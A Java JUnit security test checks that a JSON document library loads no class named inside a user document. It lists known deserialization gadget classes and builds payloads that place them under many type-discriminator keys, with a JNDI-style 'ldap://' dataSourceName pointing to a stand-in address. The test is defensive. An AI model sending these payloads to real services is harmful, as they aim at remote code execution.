package io.keyholder.documents;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonFactory;
import io.keyholder.domain.user.User;
import java.net.URL;
import java.net.URLClassLoader;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * SECURITY case 6: a class that a document names is not loaded. The library runs in a class loader that writes down
 * every class that is asked for, whether it exists or not.
 */
class GadgetDocumentTest {
    private static final List<String> GADGETS = List.of(
            "com.sun.rowset.JdbcRowSetImpl",
            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
            "javax.swing.JEditorPane",
            "java.util.logging.FileHandler",
            "javax.management.BadAttributeValueExpException",
            "org.springframework.context.support.ClassPathXmlApplicationContext",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "org.taktik.icure.entities.User",
            "org.taktik.icure.entities.security.AlwaysPermissionItem",
            "io.keyholder.documents.GadgetDocumentTest$Tripwire");

    /** Would tell if it were ever initialised. */
    private static final Set<String> TRIPPED = ConcurrentHashMap.newKeySet();

    @ParameterizedTest
    @ValueSource(strings = {"java_type", "@class", "@type", "$type", "itemType", "class", "type", "=type", "!type"})
    void loadsNoClassThatADocumentNames(String discriminator) throws Exception {
        try (Recording loader = Recording.ofTheLibrary()) {
            for (String gadget : GADGETS) {
                loader.roundTrip(document(discriminator, gadget));
            }

            assertThat(loader.asked).contains(UserDocuments.class.getName(), User.class.getName());
            assertThat(loader.asked).doesNotContainAnyElementsOf(GADGETS);
            assertThat(TRIPPED).isEmpty();
        }
    }

    @Test
    void aClassThatWereLoadedByNameWouldBeWrittenDown() throws Exception {
        try (Recording loader = Recording.ofTheLibrary()) {
            Class.forName(GADGETS.get(2), false, loader);

            assertThat(loader.asked).contains(GADGETS.get(2));
        }
    }

    private static String document(String discriminator, String gadget) {
        String named = "{\"" + discriminator + "\":\"" + gadget
                + "\",\"dataSourceName\":\"ldap://192.0.2.1/x\",\"autoCommit\":true}";
        String wrapped = "[\"" + gadget + "\"," + named + "]";
        return """
               {"_id":"u1","login":"bob","x":%1$s,"y":%2$s,"name":%1$s,"status":%1$s,"created":%2$s,"identifier":[%1$s,%2$s],
                "properties":[%1$s,%2$s,{"id":"p","type":%1$s,"typedValue":%1$s}],
                "permissions":[%1$s,%2$s,{"grants":[%1$s,%2$s,{"type":"ADMIN","%3$s":"%4$s","predicate":%1$s}]}],
                "authenticationTokens":{"a":%1$s,"%4$s":%2$s},"applicationTokens":%1$s,"autoDelegations":%1$s}""".formatted(named, wrapped, discriminator.equals("type") ? "type2" : discriminator, gadget);
    }

    /** Named by the documents. */
    static final class Tripwire {
        static {
            TRIPPED.add("initialised");
        }

        private Tripwire() {}
    }

    /** Loads the library anew, apart from the one that the tests see. */
    private static final class Recording extends URLClassLoader {
        private final Set<String> asked = ConcurrentHashMap.newKeySet();

        private Recording(URL[] places) {
            super(places, ClassLoader.getPlatformClassLoader());
        }

        static Recording ofTheLibrary() {
            List<URL> places = new ArrayList<>();
            for (Class<?> type :
                    List.of(UserDocuments.class, User.class, JsonFactory.class, GadgetDocumentTest.class)) {
                places.add(type.getProtectionDomain().getCodeSource().getLocation());
            }
            return new Recording(places.toArray(URL[]::new));
        }

        void roundTrip(String document) throws ReflectiveOperationException {
            Thread thread = Thread.currentThread();
            ClassLoader before = thread.getContextClassLoader();
            thread.setContextClassLoader(this);
            try {
                Class<?> documents = loadClass(UserDocuments.class.getName());
                Object user = documents.getMethod("read", String.class).invoke(null, document);
                documents.getMethod("write", user.getClass()).invoke(null, user);
            } finally {
                thread.setContextClassLoader(before);
            }
        }

        @Override
        protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
            asked.add(name);
            return super.loadClass(name, resolve);
        }
    }
}
